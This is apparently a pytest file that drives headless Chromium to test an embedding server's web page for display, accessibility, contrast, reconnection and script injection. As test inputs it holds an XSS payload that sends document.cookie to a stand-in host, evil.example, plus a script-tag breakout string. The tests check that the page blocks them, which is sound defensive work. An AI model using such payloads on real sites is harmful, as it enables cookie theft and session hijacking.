"""The page of a real server in a real browser: what it shows, what it asks for, what it lets in."""

from __future__ import annotations

import base64
import contextlib
import io
import itertools
import json
import os
import re
import shutil
import signal
import subprocess
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import httpx
import numpy as np
import pytest
from PIL import Image
from websockets.sync.client import ClientConnection, connect

BROWSER = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
HOSTILE = "<img src=x onerror=\"window.harmed = 1; fetch('https://evil.example/' + document.cookie)\">"
SCRIPT = "</script><script>window.harmed = 2</script>"
DEADLINE = 60.0


class Browser:
    """One tab of a headless browser, driven by its DevTools protocol.

    Attributes:
        complaints: what it wrote to its console: errors, refused styles and scripts, failed requests.
        requests: addresses that it asked for.
    """

    def __init__(self, profile: Path) -> None:
        assert BROWSER is not None
        quiet = "--disable-background-networking --disable-component-update --disable-sync --disable-quic"
        flags = f"--headless --no-sandbox --disable-gpu --no-first-run --remote-debugging-port=0 {quiet}"
        command = [BROWSER, *flags.split(), f"--user-data-dir={profile}", "about:blank"]
        self._process = subprocess.Popen(
            command, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, start_new_session=True
        )
        self.complaints: list[str] = []
        self.requests: list[str] = []
        self._numbers = itertools.count(1)
        self._open = contextlib.ExitStack()
        self._socket = self._attach(profile / "DevToolsActivePort")
        for domain in ("Page", "Runtime", "Network", "Log"):
            self.call(f"{domain}.enable")

    def _attach(self, port_file: Path) -> ClientConnection:
        give_up = time.monotonic() + DEADLINE
        while time.monotonic() < give_up:
            with contextlib.suppress(OSError, ValueError, IndexError, httpx.TransportError):
                port = int(port_file.read_text().split()[0])
                tabs = httpx.get(f"http://127.0.0.1:{port}/json/list").json()
                tab = next(tab for tab in tabs if tab["type"] == "page")
                return self._open.enter_context(
                    connect(tab["webSocketDebuggerUrl"], max_size=None, ping_interval=None)
                )
            time.sleep(0.1)
        raise AssertionError("the browser did not start")

    def call(self, method: str, **params: Any) -> dict[str, Any]:
        """Send a command; what happens until its answer is noted."""
        number = next(self._numbers)
        self._socket.send(json.dumps({"id": number, "method": method, "params": params}))
        while True:
            message = json.loads(self._socket.recv(timeout=DEADLINE))
            if message.get("id") == number:
                assert "error" not in message, message
                return dict(message["result"])
            self._note(message["method"], message["params"])

    def _note(self, event: str, params: dict[str, Any]) -> None:
        if event == "Network.requestWillBeSent":
            self.requests.append(params["request"]["url"])
        elif event == "Runtime.exceptionThrown":
            self.complaints.append(json.dumps(params["exceptionDetails"]))
        elif event == "Runtime.consoleAPICalled":
            self.complaints.append(" ".join(str(argument.get("value")) for argument in params["args"]))
        elif event == "Log.entryAdded":
            self.complaints.append(f"{params['entry']['text']} {params['entry'].get('url', '')}")

    def run(self, script: str) -> Any:
        """The value of an expression in the page."""
        done = self.call("Runtime.evaluate", expression=script, returnByValue=True, awaitPromise=True)
        assert "exceptionDetails" not in done, done
        return done["result"].get("value")

    def open(self, url: str, *, width: int = 1100, height: int = 900, dark: bool = False) -> None:
        self.resize(width, height)
        self.dark(dark)
        self.call("Page.navigate", url=url)
        self.wait("document.readyState === 'complete'")

    def resize(self, width: int, height: int) -> None:
        self.call(
            "Emulation.setDeviceMetricsOverride",
            width=width,
            height=height,
            deviceScaleFactor=1,
            mobile=False,
        )

    def dark(self, wanted: bool) -> None:
        feature = {"name": "prefers-color-scheme", "value": "dark" if wanted else "light"}
        self.call("Emulation.setEmulatedMedia", features=[feature])

    def wait(self, condition: str, seconds: float = DEADLINE) -> None:
        give_up = time.monotonic() + seconds
        while not self.run(f"Boolean({condition})"):
            assert time.monotonic() < give_up, f"never came: {condition}\n{self.text()}\n{self.complaints}"
            time.sleep(0.05)

    def text(self) -> str:
        return str(self.run("document.body.innerText"))

    def type(self, text: str) -> None:
        self.call("Input.insertText", text=text)

    def press(self, key: str) -> None:
        codes = {"Tab": 9, "Enter": 13, " ": 32}
        what = {"key": key, "windowsVirtualKeyCode": codes[key]}
        if key == "Enter":
            what["text"] = "\r"
        elif key == " ":
            what["text"] = " "
        self.call("Input.dispatchKeyEvent", type="keyDown", **what)
        self.call("Input.dispatchKeyEvent", type="keyUp", **what)

    def point(self, element: str, *, across: float) -> None:
        """Move the mouse over an element, to this share of its width."""
        box = self.run(
            f"(() => {{ const e = {element}; e.scrollIntoView(); return e.getBoundingClientRect().toJSON(); }})()"
        )
        x, y = box["left"] + across * box["width"], box["top"] + box["height"] / 2
        self.call("Input.dispatchMouseEvent", type="mouseMoved", x=x, y=y)

    def picture(self) -> bytes:
        """The whole page as a PNG."""
        taken = self.call("Page.captureScreenshot", captureBeyondViewport=True)
        return base64.b64decode(taken["data"])

    def close(self) -> None:
        self._open.close()
        with contextlib.suppress(ProcessLookupError):
            os.killpg(self._process.pid, signal.SIGKILL)
        self._process.wait(DEADLINE)


@pytest.fixture
def browser(tmp_path: Path) -> Iterator[Browser]:
    if BROWSER is None:
        pytest.skip("NO BROWSER: the page was not opened in one; install chromium to run this test")
    browser = Browser(tmp_path / "profile")
    yield browser
    browser.close()


COLOURS = ("red", "blue", "green", "yellow", "white")
THINGS = ("dog", "cat", "boat", "bicycle", "umbrella", "house", "kite", "train")
PLACES = ("on a beach", "in the snow", "under a bridge", "beside a lake", "at night")
CAPTIONS = [f"a {colour} {thing} {place}" for colour in COLOURS for thing in THINGS for place in PLACES]


@pytest.fixture(scope="module")
def filled(server: Any) -> Any:
    """200 captions, a hostile one among them."""
    captions = [*CAPTIONS[:-1], f"a red dog {SCRIPT}"]
    for at in range(0, len(captions), 50):
        assert server.embed(captions[at : at + 50]).status_code == 200
    assert httpx.post(f"{server.url}/v1/snapshots", timeout=60).status_code == 200
    assert server.embed(["a fresh red dog"]).status_code == 200
    assert server.embed(["a red dog", ""]).status_code == 400
    return server


def ask(browser: Browser, caption: str) -> None:
    """As somebody who has no mouse."""
    browser.run("document.getElementById('caption').value = ''; document.getElementById('caption').focus()")
    browser.type(caption)
    browser.press("Enter")
    browser.wait("!document.getElementById('button').hasAttribute('aria-disabled')")


def test_it_shows_what_the_server_does_and_lets_nothing_in(filled: Any, browser: Browser) -> None:
    browser.open(filled.url)
    browser.wait("document.getElementById('rows').textContent === '201'")
    text = browser.text()
    for shown in ("minilm", "Ready.", "Embeds with vllm", "mean of the tokens", "float32, 384 dimensions"):
        assert shown in text
    browser.wait("document.body.innerText.includes('000001-')")  # the snapshot
    assert httpx.get(f"{filled.url}/v1/stats").json()["fingerprint"] in text
    assert "400 invalid_caption" in text and "input[1]: the caption is empty" in text

    ask(browser, HOSTILE)
    browser.wait("document.querySelectorAll('#answer tbody tr').length === 10")
    assert browser.run("document.querySelector('.asked').textContent") == HOSTILE
    assert "embedded now, and kept" in browser.text()
    ask(browser, "a red dog")
    browser.wait("document.querySelector('.asked').textContent === 'a red dog'")
    near = browser.run(
        "[...document.querySelectorAll('#answer tbody td:first-child')].map(e => e.textContent)"
    )
    assert "a fresh red dog" in near and all("red dog" in caption for caption in near[:3])
    ask(browser, f"a red dog {SCRIPT}")
    browser.wait("document.querySelector('.asked').textContent.includes('window.harmed')")
    assert "from the cache" in browser.text()
    assert browser.run("window.harmed === undefined && document.scripts.length === 1")
    assert not browser.run("document.querySelector('main img')")

    origin = f"{filled.url}/"
    assert browser.requests and not [
        url for url in browser.requests if not url.startswith((origin, "data:image/svg+xml,"))
    ]
    assert browser.complaints == []


def test_even_a_page_that_was_tampered_with_runs_no_other_script(filled: Any, browser: Browser) -> None:
    browser.open(filled.url)
    browser.run(
        """(() => {
            const script = document.createElement("script");
            try { script.textContent = "window.harmed = 3"; } catch { }
            document.body.append(script);
            try { document.body.insertAdjacentHTML("beforeend", "<img src=x onerror='window.harmed = 4'>"); } catch { }
        })()"""
    )
    blocked = browser.run("fetch('https://evil.example/').then(() => 'sent', (error) => error.name)")
    assert blocked == "TypeError" and browser.run("window.harmed === undefined")
    assert [complaint for complaint in browser.complaints if "Content Security Policy" in complaint]


CONTRAST = """(() => {
  const parse = (text) => (text.match(/[\\d.]+/g) || []).map(Number);
  const luminance = ([r, g, b]) => [r, g, b].map((v) => v / 255)
    .map((v) => v <= 0.04045 ? v / 12.92 : ((v + 0.055) / 1.055) ** 2.4)
    .reduce((sum, v, i) => sum + v * [0.2126, 0.7152, 0.0722][i], 0);
  const behind = (element) => {
    for (let e = element; e; e = e.parentElement) {
      const colour = parse(getComputedStyle(e).backgroundColor);
      if (colour.length === 3 || colour[3] > 0) return colour;
    }
    return [255, 255, 255];
  };
  const low = [];
  const walker = document.createTreeWalker(document.body, NodeFilter.SHOW_TEXT);
  while (walker.nextNode()) {
    const element = walker.currentNode.parentElement;
    if (!walker.currentNode.textContent.trim() || !element.getClientRects().length) continue;
    if (["SCRIPT", "STYLE", "NOSCRIPT"].includes(element.tagName)) continue;
    const style = getComputedStyle(element), svg = element instanceof SVGElement;
    const [a, b] = [luminance(parse(svg ? style.fill : style.color)), luminance(behind(element))].sort((x, y) => y - x);
    const ratio = (a + 0.05) / (b + 0.05);
    if (ratio < 4.5) low.push(`${ratio.toFixed(2)} ${element.className} ${walker.currentNode.textContent.trim()}`);
  }
  return low;
})()"""


@pytest.mark.parametrize("dark", [False, True])
def test_it_can_be_read_in_light_and_dark_and_on_a_phone(filled: Any, browser: Browser, dark: bool) -> None:
    browser.open(filled.url, dark=dark)
    browser.wait("document.getElementById('rows').textContent.startsWith('20')")
    ask(browser, "a red dog")
    browser.wait("document.querySelector('#grown svg') && document.querySelector('#answer tbody')")
    picture = np.asarray(Image.open(io.BytesIO(browser.picture())).convert("L"), float)
    assert picture.std() > 5
    assert np.median(picture) < 60 if dark else np.median(picture) > 200
    assert browser.run(CONTRAST) == []
    browser.point("document.getElementById('grown')", across=0.9)
    read = browser.run("document.getElementById('grown-at').textContent")
    assert re.fullmatch(r"\d\d:\d\d:\d\d\s+\d+", read)  # when, and how many
    for width in (360, 768):
        browser.resize(width, 800)
        wide = "document.documentElement.scrollWidth <= document.documentElement.clientWidth"
        assert browser.run(wide), f"it can be scrolled sideways at {width} px"
    assert browser.complaints == []


def test_everything_has_a_name_and_the_keyboard_reaches_it(filled: Any, browser: Browser) -> None:
    browser.open(filled.url)
    browser.wait("document.getElementById('rows').textContent.startsWith('20')")
    reached = []
    for _ in range(7):
        browser.press("Tab")
        reached.append(browser.run("document.activeElement.id || document.activeElement.textContent"))
    assert reached[:4] == ["Skip to the caption box", "caption", "button", "center"]
    assert reached[4:] == ["API", "These figures as JSON", "Prometheus metrics"]
    tree = browser.call("Accessibility.getFullAXTree")["nodes"]
    named = {
        (node["role"]["value"], node.get("name", {}).get("value", "")) for node in tree if not node["ignored"]
    }
    assert {("textbox", "Caption"), ("button", "Find neighbours")} <= named
    assert not [
        role
        for role, name in named
        if role in ("textbox", "button", "checkbox", "link", "image") and not name
    ]
    assert any(role == "image" and name.startswith("Captions in the cache: ") for role, name in named)


def test_a_server_that_goes_away_is_noticed_and_one_that_comes_back_too(
    serve: Callable[..., Any], browser: Browser
) -> None:
    running = serve("--engine", "transformers").wait_ready()
    assert running.embed(["a red dog"]).status_code == 200
    browser.open(running.url)
    browser.wait("document.getElementById('state').textContent === 'Ready.'")
    running.stop()
    browser.wait("document.getElementById('state').textContent === 'No answer.'")
    assert "Trying again every 2 s" in browser.text() and browser.run("document.title.startsWith('●')")
    assert browser.run("document.getElementById('rows').textContent") == "1"
    ask(browser, "a red dog")
    assert "The caption is still in the box" in browser.text()
    again = serve("--engine", "vllm", port=int(running.url.rpartition(":")[2]))
    browser.wait("document.getElementById('state').textContent === 'Only cached captions for now.'")
    assert "the engine is starting" in browser.text()  # for some seconds
    again.wait_ready()
    browser.wait("document.getElementById('state').textContent === 'Ready.'")
    assert not browser.run("document.getElementById('gone').checkVisibility()")


def test_it_asks_for_nothing_while_it_is_hidden(filled: Any, browser: Browser) -> None:
    browser.open(filled.url)
    browser.wait("document.getElementById('rows').textContent.startsWith('20')")
    hide = """(hidden) => {
        Object.defineProperty(document, "hidden", {configurable: true, get: () => hidden});
        document.dispatchEvent(new Event("visibilitychange"));
    }"""
    browser.run(f"({hide})(true)")
    before = len(browser.requests)
    time.sleep(5)
    browser.run("1")  # what happened meanwhile is noted now
    assert len(browser.requests) == before
    browser.run(f"({hide})(false)")
    time.sleep(0.5)
    browser.run("1")
    assert len(browser.requests) == before + 1
